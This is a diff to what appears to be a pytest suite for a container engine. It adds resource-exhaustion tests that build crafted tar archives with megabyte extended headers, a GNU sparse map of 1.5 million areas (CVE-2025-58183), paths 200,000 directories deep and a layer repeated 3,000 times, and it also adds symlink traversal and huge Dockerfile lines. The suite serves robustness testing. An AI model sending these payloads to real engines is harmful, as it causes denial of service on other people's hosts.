@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import functools
 import gzip
+import hashlib
+import json
 import lzma
 import tarfile
 import time
@@ -11,7 +13,7 @@ from collections.abc import Callable, Iterator
 
 import pytest
 from archives import Member, directory, link, tar_of
-from attack_target import Response, Target
+from attack_target import Response, Target, busybox_members
 from attacks import attack
 from engine_memory import memory_for
 
@@ -115,6 +117,49 @@ def large_header(size: int) -> bytes:
     return gzip.compress(head, 1) + gzip.compress(b"\0" * size, 1) + gzip.compress(header("file") + b"\0" * 1024, 1)
 
 
+def extended(kind: bytes, **values: bytes) -> bytes:
+    """Return an extended header, for the next member or for all that follow. In names, `_` stands for a dot."""
+    data = b""
+    for name, value in values.items():
+        rest = b" %s=%s\n" % (name.replace("_", ".").encode(), value)
+        length = len(rest) + len(str(len(rest)))
+        length += len(str(length)) - len(str(len(rest)))
+        data += b"%d%s" % (length, rest)
+    return header("extended", len(data), kind) + data + b"\0" * (-len(data) % tarfile.BLOCKSIZE)
+
+
+@functools.cache
+def tar_of_headers(kind: bytes) -> bytes:
+    """Return a compressed tar of a few KB with 25 members, each of which has an extended header of a megabyte."""
+    value = b"a" * (MEBIBYTE - 512)
+    members = [extended(kind, **{f"comment{number}": value}) + header(f"file{number}") for number in range(25)]
+    return gzip.compress(b"".join(members) + b"\0" * 1024, 1)
+
+
+@every_door
+@attack()
+def test_headers_of_much_memory(target: Target, send: Send) -> None:
+    """Each member of a compressed archive has an extended header of a megabyte, for itself or for all members."""
+    for kind in (tarfile.XGLTYPE, tarfile.XHDTYPE):
+        if memory_for(target.host, lambda kind=kind: send(target, tar_of_headers(kind))) > 15 * MEBIBYTE:  # type: ignore[misc]
+            target.reached("the engine holds all headers in memory")
+
+
+@every_door
+@attack()
+def test_map_of_a_sparse_file(target: Target, send: Send) -> None:
+    """The map of a sparse file has millions of empty areas, and is compressed to a few KB (CVE-2025-58183)."""
+    count = 1_500_000
+    areas = f"{count}\n".encode() + b"0\n0\n" * count
+    areas += b"\0" * (-len(areas) % tarfile.BLOCKSIZE)
+    head = extended(
+        tarfile.XHDTYPE, GNU_sparse_major=b"1", GNU_sparse_minor=b"0", GNU_sparse_name=b"x", GNU_sparse_realsize=b"10"
+    )
+    tar = gzip.compress(head + header("x", len(areas)) + areas + b"\0" * 1024, 1)
+    if memory_for(target.host, lambda: send(target, tar)) > 50 * MEBIBYTE:
+        target.reached("the engine holds the map in memory")
+
+
 @every_door
 @attack()
 def test_dictionary_of_much_memory(target: Target, send: Send) -> None:
@@ -171,6 +216,52 @@ def test_links_in_the_path_of_each_member(target: Target) -> None:
         target.reached("the engine follows links for too long")
 
 
+@attack()
+def test_name_of_a_megabyte(target: Target) -> None:
+    """The name of a member, the target of a COPY and a WORKDIR have hundreds of thousands of directories in them."""
+    deep = "a/" * 200_000
+    tar = extended(tarfile.XHDTYPE, path=f"{deep}file".encode()) + header("file") + b"\0" * 1024
+    for dockerfile in ("ADD archive.tar /x/", f"COPY archive.tar /{deep}", f"WORKDIR /{deep}\nRUN true"):
+        if is_slow(target, lambda line=dockerfile: target.build(f"FROM busybox\n{line}\n", ("archive.tar", tar))):  # type: ignore[misc]
+            target.reached("the engine is busy with a name")
+
+
+@attack()
+def test_layer_again_and_again(target: Target) -> None:
+    """An image consists of one layer of the archive 3,000 times, which would be unpacked so often."""
+    layer = tar_of(*[(f"file{number}", b"x" * 50_000) for number in range(50)])
+    root = {"type": "layers", "diff_ids": [f"sha256:{hashlib.sha256(layer).hexdigest()}"] * 3000}
+    config = json.dumps({"architecture": "amd64", "os": "linux", "config": {}, "rootfs": root}).encode()
+    entry = {"Config": "config.json", "RepoTags": [f"{target.label}:latest"], "Layers": ["layer.tar"] * 3000}
+    members: list[Member] = [("config.json", config), ("manifest.json", json.dumps([entry]).encode())]
+
+    def use() -> None:
+        target.load(*members, ("layer.tar", layer))
+        target.create("true", image=f"{target.label}:latest")
+
+    if is_slow(target, use):
+        target.reached("the engine unpacks the layer thousands of times")
+
+
+@attack()
+def test_way_up_and_down(target: Target) -> None:
+    """Paths and links go into a directory, which is a thousand directories below others, and up again, many times."""
+    top, links = "d/" * 1000, [link(f"{'d/' * 1000}{number}", f"{'x/../' * 700}{number + 1}") for number in range(20)]
+    image = target.import_image(*busybox_members(target.host), directory(f"{top}x"), *links, link("etc", f"/{top}0"))
+    container = target.create("true", image=image, User="user", WorkingDir=f"/{top}0")
+    paths = [f"/{top}{'x/../' * 9000}", f"/{top}0", "/etc/passwd"]
+
+    def use() -> None:
+        target.start(container)
+        for path in paths:
+            target.get(container, path)
+            target.head(container, path)
+            target.put(container, path, ("file", b"x"))
+
+    if is_slow(target, use):
+        target.reached("the engine goes up and down for too long")
+
+
 # -- contexts --------------------------------------------------------------------------------------------------
 
 NAME = "a" * 200
@@ -218,8 +309,21 @@ def test_pattern_that_is_none(target: Target, pattern: str) -> None:
         "FROM scratch\nEXPOSE " + "9" * 5000,
         "FROM scratch\nHEALTHCHECK --retries=x --interval=" + "9" * 500 + "h CMD true",
         "FROM scratch\nONBUILD " + "ONBUILD " * 50_000,
+        "FROM scratch\nWORKDIR " + "a" * 900_000,
     ],
-    ids=["directive", "keyword", "flags", "escapes", "quotes", "variables", "array", "port", "numbers", "triggers"],
+    ids=[
+        "directive",
+        "keyword",
+        "flags",
+        "escapes",
+        "quotes",
+        "variables",
+        "array",
+        "port",
+        "numbers",
+        "triggers",
+        "word",
+    ],
 )
 @attack()
 def test_dockerfile_that_is_read_slowly(target: Target, dockerfile: str) -> None:
